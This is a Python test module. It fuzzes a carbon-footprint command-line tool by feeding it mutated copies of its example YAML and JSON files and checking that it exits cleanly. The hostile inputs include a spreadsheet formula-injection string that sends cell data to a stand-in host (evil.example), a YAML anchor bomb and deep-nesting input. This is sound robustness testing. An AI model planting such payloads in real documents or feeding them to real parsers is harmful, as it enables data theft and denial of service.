"""A seeded mutation fuzzer over the shipped example files (issue 12).

Every example file carbonev reads as a user would (vehicle specs, plants, packs, auditor and
declaration values, rating thresholds, PACT owner statements, scenarios, sweep grids, stations) is
loaded, one node (a value, a list or a mapping, by key path) is replaced by a hostile or unusual
value, or the text is damaged, and the command a user runs on that file is run in-process on the
mutated copy. Every run must end in exit 0 with a sensible result, or exit 2 with one line per
problem, no traceback and no output file; anything else is a crash.
"""

from __future__ import annotations

import copy
import json
import math
import random
import re
import signal
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[2]
EX = ROOT / "examples"
BEV = EX / "bev-midsize-nmc811.yaml"
PACK = EX / "battery" / "pack-nmc811-zj.yaml"
PASS = EX / "factories" / "zj-vehicle-assembly-pass.yaml"
FAIL = EX / "factories" / "zj-battery-cell-fail.yaml"
DELETE = object()
FILE_KEYS = ("plant_file", "footprint", "station_file", "grid_file", "marginal_file")
CASE_SECONDS = 60  # a case taking longer is a hang
MAX_LINE = 2_000  # characters of one error line


# (example file, command as a user runs it on that file); {file} is the mutated copy
TARGETS: list[tuple[Path, list[str]]] = [
    *[(p, ["footprint", "{file}", "-f", "json"]) for p in sorted(EX.glob("*.yaml"))],
    *[(p, ["footprint", "{file}", "-f", "json"]) for p in sorted((EX / "charging").glob("*car*.yaml"))],
    (EX / "charging" / "bus-depot-night.yaml", ["footprint", "{file}", "-f", "json"]),
    (EX / "plant-linked" / "suv-zj-plant.yaml", ["footprint", "{file}", "-f", "json"]),
    (EX / "supply-chain" / "vehicle-compact-lfp.yaml", ["footprint", "{file}", "-f", "json"]),
    (EX / "supply-chain" / "vehicle-midsize-nmc811.yaml", ["footprint", "{file}", "-f", "json"]),
    (PASS, ["factory", "footprint", "{file}", "-f", "json"]),
    (FAIL, ["factory", "footprint", "{file}", "-f", "json"]),
    (PACK, ["battery", "declare", "{file}", "--scheme", "eu-2023-1542", "-f", "json"]),
    (EX / "supply-chain" / "pack-lfp-44kwh.yaml", ["battery", "declare", "{file}", "--scheme", "eu-2023-1542",
                                                   "-f", "json"]),
    (EX / "factories" / "auditor-values-demo.yaml", ["factory", "audit", str(PASS), "--criteria", "gbt36132-2025",
                                                     "--values", "{file}", "-f", "json"]),
    (EX / "factories" / "auditor-values-demo-battery.yaml", ["factory", "audit", str(FAIL), "--criteria",
                                                             "zj-zero-carbon-2023", "--values", "{file}", "-f",
                                                             "json"]),
    (EX / "battery" / "battery-values-demo.yaml", ["battery", "declare", str(PACK), "--scheme", "cn-miit-2025",
                                                   "--values", "{file}", "-f", "json"]),
    (EX / "rating" / "demo-thresholds.yaml", ["rate", str(BEV), "--rules", "vehicle-template", "--values", "{file}",
                                              "-f", "json"]),
    (EX / "supply-chain" / "auditor-values-demo.yaml", ["pact", "score", str(EX / "supply-chain" /
                                                                            "vehicle-midsize-nmc811.yaml"),
                                                        str(EX / "supply-chain" / "vehicle-compact-lfp.yaml"),
                                                        "--values", "{file}", "--as-of", "2026-12-01", "--format",
                                                        "json"]),
    (EX / "exchange" / "pact-info-demo.yaml", ["export", "pact", str(PACK), "--info", "{file}", "--created",
                                               "2026-01-15T00:00:00Z"]),
    (EX / "supply-chain" / "info-lfp-pack-supplier.yaml", ["export", "pact", str(PACK), "--info", "{file}",
                                                           "--created", "2026-01-15T00:00:00Z"]),
    (EX / "supply-chain" / "info-nmc-pack-supplier.yaml", ["export", "pact", str(PACK), "--info", "{file}",
                                                           "--created", "2026-01-15T00:00:00Z"]),
    *[(p, ["export", "check-pact", "{file}"]) for p in sorted((EX / "supply-chain" / "footprints").glob("*.json"))],
    (EX / "sweeps" / "scenarios.yaml", ["footprint", str(BEV), "--scenario", "{file}", "-f", "json"]),
    (EX / "sweeps" / "bev-battery-grid.yaml", ["sweep", str(BEV), "--grid", "{file}", "-f", "json"]),
    (EX / "charging" / "zj-pv-storage-site.yaml", ["station", "{file}", "-f", "json"]),
    *[(p, ["battery", "declare", "{file}", "--scheme", "eu-2023-1542", "-f", "json"])
      for p in sorted((EX / "battery" / "miit-batch").glob("*.yaml"))],
    (EX / "carbon-efficiency" / "zj-plant.yaml", ["factory", "footprint", "{file}", "-f", "json"]),
    (EX / "carbon-efficiency" / "values-secondary.yaml", ["factory", "audit", str(EX / "carbon-efficiency" /
                                                                                "zj-plant.yaml"),
                                                          "--criteria", "zj-carbon-efficiency-code", "--values",
                                                          "{file}", "-f", "json"]),
    (EX / "report" / "study-info-demo.yaml", ["report", str(BEV), "--info", "{file}", "-f", "json"]),
    (EX / "benefit" / "pv-roof-jinhua.yaml", ["benefit", "project", "{file}", "--json"]),
    (EX / "benefit" / "retrofit-paint-shop.yaml", ["benefit", "project", "{file}", "--json"]),
    (EX / "benefit" / "loans.yaml", ["benefit", "disclose", "{file}", "--quarter", "2025Q3", "-f", "json"]),
]


@dataclass
class Case:
    target: int  # index into TARGETS
    path: tuple  # key path of the mutated node ((): the text)
    label: str  # what was done, for the report


@dataclass
class Tally:
    tried: int = 0
    clean_errors: int = 0
    accepted_sensible: int = 0
    nonsense: list[str] = field(default_factory=list)
    crashes: list[str] = field(default_factory=list)
    slowest: float = 0.0
    by_target: dict[str, int] = field(default_factory=dict)

    def summary(self) -> dict[str, Any]:
        return {"mutations tried": self.tried, "clean errors (exit 2, one line each)": self.clean_errors,
                "accepted and sensible (exit 0)": self.accepted_sensible, "accepted nonsense": len(self.nonsense),
                "crashes": len(self.crashes), "slowest case [s]": round(self.slowest, 2),
                "files": len(self.by_target)}


def load(path: Path) -> Any:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def dump(data: Any, path: Path) -> str:
    """``data`` as the text of a file like ``path`` (JSON for .json, else YAML)."""
    if path.suffix == ".json":
        return json.dumps(data, ensure_ascii=False, indent=1)
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def writes_output(template: list[str]) -> bool:
    """False for commands that only print (their standard output is the result)."""
    return "check-pact" not in template and template[:2] != ["benefit", "project"]


def anchor(data: Any, folder: Path) -> Any:
    """``data`` with every relative file name made absolute (the copy is written elsewhere)."""
    if isinstance(data, dict):
        return {k: (str((folder / v).resolve()) if k in FILE_KEYS and isinstance(v, str) and not Path(v).is_absolute()
                    else anchor(v, folder)) for k, v in data.items()}
    if isinstance(data, list):
        return [anchor(v, folder) for v in data]
    return data


def nodes(data: Any, path: tuple = ()) -> Iterator[tuple]:
    """Key paths of every node (mappings, lists and values), depth first."""
    if path:
        yield path
    if isinstance(data, dict):
        for k, v in data.items():
            yield from nodes(v, (*path, k))
    elif isinstance(data, list):
        for i, v in enumerate(data):
            yield from nodes(v, (*path, i))


_QTY = re.compile(r"^\s*([-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?)\s*(\S.*)?$")
COMMON = [DELETE, None, "", 0, -1, 1e308, True, [], {"x": 1}, "x" * 25_000, "9**9**9 kWh", "1e400 kWh",
          "1e-320 km", "/dev/zero", '=HYPERLINK("http://evil.example/?"&A2,"Click me")', "\x1b[31m\x00", "浙江",
          float("nan"), float("inf"), 10**30, "0 kg", "1 kWh**9999999", ["a", {"b": None}]]


def values_for(value: Any) -> list[Any]:
    """Hostile and unusual replacements for one node's ``value``."""
    out = list(COMMON)
    if isinstance(value, bool):
        out += [not value, "yes", 2]
    elif isinstance(value, (int, float)):
        out += [-value, value * 1e6, value * 1e-6, 1e300, f"{value} kg", 0.5 if isinstance(value, int) else 7]
    elif isinstance(value, str):
        m = _QTY.match(value)
        if m and m.group(2):
            num, unit = float(m.group(1)), m.group(2)
            out += [f"0 {unit}", f"-{abs(num)} {unit}", f"{num * 1e6:g} {unit}", f"{num * 1e-6:g} {unit}",
                    f"1e300 {unit}", f"{num:g}", f"{num:g} {unit}**2", f"{num:g} furlong", f"{num:g}{unit}"]
        out += [value + "x", value.upper(), " " + value, value * 50]
    elif isinstance(value, list):
        out += [value * 20, value[:1], [value]]
    elif isinstance(value, dict):
        out += [list(value), {**value, "unknown_key": 1}, {k: None for k in value}]
    return out


TEXT = ["duplicate a line", "truncate", "tab indent", "binary", "bom+crlf", "anchor bomb", "deep nesting",
        "empty file", "top-level list"]


def mutate_text(text: str, how: str, rng: random.Random) -> str | bytes:
    lines = text.splitlines(keepends=True)
    if how == "duplicate a line":
        keyed = [i for i, ln in enumerate(lines) if re.match(r"^\s*\"?[A-Za-z_][\w.-]*\"?\s*:", ln)]
        i = rng.choice(keyed)
        return "".join(lines[: i + 1] + [lines[i]] + lines[i + 1:])
    if how == "truncate":
        return text[: rng.randrange(1, max(2, len(text)))]
    if how == "tab indent":
        return text.replace("  ", "\t", 1)
    if how == "binary":
        return bytes(rng.randrange(256) for _ in range(2000))
    if how == "bom+crlf":
        return "\ufeff" + text.replace("\n", "\r\n")
    if how == "anchor bomb":
        bomb = ["bomb0: &b0 [x, x, x, x, x, x, x, x, x, x]"]
        bomb += [f"bomb{i}: &b{i} [" + ", ".join([f"*b{i - 1}"] * 10) + "]" for i in range(1, 8)]
        return "\n".join(bomb) + "\n" + text
    if how == "deep nesting":
        return "deep: " + "[" * 5000 + "]" * 5000 + "\n" + text
    if how == "empty file":
        return ""
    return "- " + text.replace("\n", "\n  ")


def apply(data: Any, path: tuple, value: Any) -> Any:
    out = copy.deepcopy(data)
    node = out
    for key in path[:-1]:
        node = node[key]
    if value is DELETE:
        del node[path[-1]]
    else:
        node[path[-1]] = value
    return out


def cases(rng: random.Random, count: int | None) -> Iterator[tuple[Case, Any, str | bytes]]:
    """(case, mutated data or None, text to write) — every node of every file once (in a seeded order)
    with a seeded replacement, then text damage per file; or ``count`` of them at random."""
    plan = []
    for t, (file, _) in enumerate(TARGETS):
        data = anchor(load(file), file.parent)
        for path in nodes(data):
            plan.append((t, path))
        plan += [(t, ("#text", how)) for how in TEXT]
    rng.shuffle(plan)
    if count is not None:
        plan = plan[:count]
    for t, path in plan:
        file = TARGETS[t][0]
        data = anchor(load(file), file.parent)
        if path and path[0] == "#text":
            yield Case(t, path, f"text: {path[1]}"), None, mutate_text(dump(data, file), path[1], rng)
            continue
        node = data
        for key in path:
            node = node[key]
        value = rng.choice(values_for(node))
        mutated = apply(data, path, value)
        shown = "delete" if value is DELETE else repr(value)[:40]
        yield Case(t, path, f"{'.'.join(map(str, path))} = {shown}"), mutated, dump(mutated, file)


def _numbers(value: Any) -> Iterator[float]:
    if isinstance(value, bool):
        return
    if isinstance(value, (int, float)):
        yield float(value)
    elif isinstance(value, dict):
        for v in value.values():
            yield from _numbers(v)
    elif isinstance(value, list):
        for v in value:
            yield from _numbers(v)


def sensible(argv: list[str], out: Path) -> str | None:
    """Why an accepted result is nonsense (None when it is sensible): not strict JSON, a non-finite or
    absurd number, a vehicle footprint that is not positive."""
    if not out.is_file():
        return "exit 0 but no output file"
    text = out.read_text(encoding="utf-8")

    def constant(name):
        raise ValueError(name)

    try:
        doc = json.loads(text, parse_constant=constant)
    except ValueError as exc:
        return f"not strict JSON ({str(exc)[:60]})"
    numbers = list(_numbers(doc))
    if any(not math.isfinite(x) or abs(x) > 1e15 for x in numbers):
        return "a non-finite or absurd number"
    if argv[0] == "footprint":
        for r in doc if isinstance(doc, list) else [doc]:
            if not (r["total"] > 0 and 0 < r["per_km"] < 1e6 and r["lifetime_km"] >= 1000):
                return f"footprint total {r['total']:.4g} kg, {r['per_km']:.4g} g/km"
    return None


class Hang(Exception):
    pass


def run_case(invoke, store: Path, case: Case, payload: str | bytes, work: Path, tally: Tally) -> None:
    """Write the mutated copy, run the command, and count the outcome."""
    file, template = TARGETS[case.target]
    work.mkdir(parents=True, exist_ok=True)
    copy_ = work / f"mutated{file.suffix}"
    if isinstance(payload, bytes):
        copy_.write_bytes(payload)
    else:
        copy_.write_text(payload, encoding="utf-8")
    out_dir = work / "out"
    out_dir.mkdir(exist_ok=True)
    out = out_dir / "result.json"
    argv = [a.replace("{file}", str(copy_)) for a in template] + (["-o", str(out)] if writes_output(template) else [])
    where = f"{file.relative_to(ROOT)}: {case.label}"

    def alarm(signum, frame):
        raise Hang(f"longer than {CASE_SECONDS} s")

    old = signal.signal(signal.SIGALRM, alarm)
    signal.alarm(CASE_SECONDS)
    started = time.monotonic()
    try:
        res = invoke(store, *argv)
    except Hang as exc:
        tally.crashes.append(f"{where}: hang ({exc})")
        return
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
        tally.tried += 1
        tally.by_target[str(file.relative_to(ROOT))] = tally.by_target.get(str(file.relative_to(ROOT)), 0) + 1
    tally.slowest = max(tally.slowest, time.monotonic() - started)
    leftovers = [p.name for p in out_dir.iterdir() if p.name != "result.json"]
    try:
        if isinstance(res.exception, Hang):
            tally.crashes.append(f"{where}: hang")
        elif res.exit_code == 0:
            if not writes_output(template):
                out.write_text(res.stdout, encoding="utf-8")
            why = sensible(template, out) if "check-pact" not in template else \
                (None if res.stdout.startswith("ok: ") else f"exit 0 without 'ok': {res.stdout[:80]!r}")
            if why:
                tally.nonsense.append(f"{where}: {why}")
            else:
                tally.accepted_sensible += 1
        elif res.exit_code == 2:
            lines = res.stderr.strip().splitlines()
            bad = [ln for ln in lines if not ln.startswith(("error: ", "warning: ")) or len(ln) > MAX_LINE]
            if not lines or bad or not any(ln.startswith("error: ") for ln in lines) or "Traceback" in res.output:
                tally.crashes.append(f"{where}: exit 2 but not one line per problem: {res.stderr[:300]!r}")
            elif out.exists():
                tally.crashes.append(f"{where}: exit 2 but the output was written")
            else:
                tally.clean_errors += 1
        else:
            exc = res.exception
            tally.crashes.append(f"{where}: exit {res.exit_code}: {type(exc).__name__}: {str(exc)[:200]}")
        if leftovers:
            tally.crashes.append(f"{where}: temporary files left: {leftovers}")
    finally:
        out.unlink(missing_ok=True)
        for p in out_dir.iterdir():
            p.unlink()
